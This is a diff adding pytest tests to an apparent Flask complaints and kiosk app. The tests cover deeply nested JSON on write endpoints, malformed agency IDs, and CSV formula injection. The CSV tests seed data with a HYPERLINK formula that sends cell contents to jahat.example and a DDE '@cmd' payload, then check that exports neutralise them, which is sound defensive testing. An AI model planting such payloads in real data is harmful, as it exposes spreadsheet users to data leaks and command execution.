@@ -377,3 +377,77 @@ def test_a_malformed_subscription_gets_the_error_shape(app, subscription):
     assert set(answer) >= {"error", "message"} and answer["error"] in ("bad_request", "invalid_field"), answer
     assert socket.is_connected()
     socket.disconnect()
+
+
+# ---------------------------------------------------------------- errors
+
+
+def write_endpoints(app) -> list[tuple[str, str]]:
+    found = []
+    for rule in app.url_map.iter_rules():
+        for method in sorted((rule.methods or set()) & {"POST", "PUT", "PATCH", "DELETE"}):
+            path = rule.rule
+            for arg in rule.arguments:
+                converter = rule._converters[arg].__class__.__name__
+                path = path.replace(f"<int:{arg}>", "1").replace(f"<{arg}>", "kios-1" if converter != "IntegerConverter" else "1")
+                path = path.replace(f"<path:{arg}>", "x")
+            found.append((method, path))
+    return found
+
+
+def test_deeply_nested_json_is_a_400_on_every_json_endpoint(app, client):
+    login(client, "admin")
+    nested = "[" * 5000 + "]" * 5000
+    endpoints = write_endpoints(app)
+    assert len(endpoints) > 30
+    for method, path in endpoints:
+        response = client.open(path, method=method, data=nested, content_type="application/json")
+        assert response.status_code < 500, (method, path, response.status_code, response.get_data(as_text=True)[:200])
+        if response.status_code >= 400:
+            assert response.get_json()["error"], (method, path)
+    objects = '{"a":' * 3000 + "1" + "}" * 3000
+    assert_error(client.post("/api/login", data=objects, content_type="application/json"), 400, "invalid_json")
+
+
+@pytest.mark.parametrize("agency_ids", ["[abc", "[1, [2]]", '{"a": 1}', "[" * 3000, "[true]", "[1.5]"])
+def test_a_display_with_unreadable_agency_ids_is_a_400(client, agency_ids):
+    login(client, "admin")
+    body = assert_error(client.put("/api/admin/displays/1", json={"agency_ids": agency_ids}), 400, "invalid_field")
+    assert body["field"] == "agency_ids"
+
+
+# ---------------------------------------------------------------- CSV exports
+
+
+FORMULA = '=HYPERLINK("http://jahat.example/?x="&A1,"Klik")'
+
+
+def csv_cells(response) -> list[str]:
+    import csv
+    import io
+
+    assert response.status_code == 200, response.get_data(as_text=True)[:300]
+    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))) for cell in row]
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/api/admin/reports/summary?from=2026-11-25&group=agency&format=csv",
+        "/api/admin/reports/live?format=csv",
+        "/api/reports/ikm.csv?agency_id=1",
+        "/api/complaints/export.csv",
+    ],
+)
+def test_no_export_turns_a_name_into_a_live_formula(client, db, path):
+    db.execute("UPDATE agencies SET name = ? WHERE id = 1", (FORMULA,))
+    db.execute("UPDATE services SET name = '+SUM(1,1)' WHERE agency_id = 1")
+    db.conn.commit()
+    client.post("/api/complaints", json={"kind": "complaint", "text": "@cmd|' /C calc'!A0", "agency_id": 1, "name": "-2+3"})
+    login(client, "admin")
+    cells = csv_cells(client.get(path))
+    assert cells
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not dangerous, dangerous
+    if "live" in path:
+        assert "'" + FORMULA in cells
